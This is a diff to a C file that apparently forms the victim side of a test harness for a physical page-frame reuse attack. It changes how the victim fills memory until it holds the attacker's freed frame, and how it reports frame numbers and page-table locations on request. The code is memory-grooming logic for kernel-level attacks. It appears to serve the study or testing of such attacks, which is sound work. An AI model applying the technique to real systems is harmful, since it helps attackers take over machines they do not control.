@@ -6,9 +6,11 @@
  */
 #include "attack.h"
 
-#define TAKES	256		/* pages, to have a certain frame among them */
+#define TAKES	(1ul << 20)	/* at a time, to have a certain frame there */
+#define TAKES_MOST	(64ul << 20)
 
-static uint8_t *taken;
+static uint8_t *taken;		/* room for TAKES_MOST */
+static size_t taken_len;
 static uint64_t frame;		/* that the attacker had */
 
 void victim_init(void)
@@ -17,7 +19,7 @@ void victim_init(void)
 	if (!victims)
 		fatal("%r");
 	memset(victims, THEIRS, PAGE);
-	taken = NULL;
+	taken_len = 0;
 	frame = 0;
 }
 
@@ -87,22 +89,36 @@ static bool have_frame(void)
 	return found;
 }
 
-/* Takes memory until the attacker's frame is the victim's. */
-bool victim_takes_frame(void)
+/* Page by page, as what comes first out of large frames is not what has been
+ * given back last. */
+static void take_more(void)
 {
-	taken = drv_memory(TAKES * PAGE);
-	if (!taken)
-		fatal("%r");
-	memset(taken, THEIRS, TAKES * PAGE);
-	return have_frame();
+	memset(taken + taken_len, THEIRS, TAKES);
+	taken_len += TAKES;
 }
 
-/* Looks for no frame in vain. */
+/* Takes memory until the attacker's frame is the victim's.  Without it there is
+ * nothing that the attack could hit. */
+void victim_takes_frame(void)
+{
+	do {
+		if (taken_len == TAKES_MOST)
+			fatal("frame 0x%lx is lost", frame);
+		take_more();
+	} while (!have_frame());	/* which takes memory, too */
+	print("frame 0x%lx is the victim's now\n", frame);
+}
+
+/* So that the kernel needs no memory of its own for it then: for the region,
+ * the page tables, the text of have_frame(). */
 void victim_is_set(void)
 {
-	(void)victim_takes_frame();
-	munmap(taken, TAKES * PAGE);
-	taken = NULL;
+	taken = mmap(NULL, TAKES_MOST, PROT_READ | PROT_WRITE, MAP_ANON, -1, 0);
+	if (!taken)
+		fatal("%r");
+	for (size_t i = 0; i < TAKES_MOST; i += TAKES)
+		taken[i] = THEIRS;
+	(void)have_frame();
 }
 
 static bool all_theirs(const uint8_t *p, size_t len)
@@ -124,7 +140,7 @@ static bool names_unchanged(void)
 bool victim_unchanged(void)
 {
 	return all_theirs(victims, PAGE) &&
-		(!taken || all_theirs(taken, TAKES * PAGE)) &&
+		all_theirs(taken, taken_len) &&
 		names_unchanged();
 }
 
@@ -151,7 +167,8 @@ uint64_t victim_answers(int pid, const char *line)
 	case 'f':		/* which frame is under that page */
 		return frame = frame_under(pid, n);
 	case 'r':		/* take it */
-		return victim_takes_frame();
+		victim_takes_frame();
+		return 1;
 	case 't':		/* where its page tables are */
 		return behind(pid, "root");
 	case 'v':		/* where its own page is */
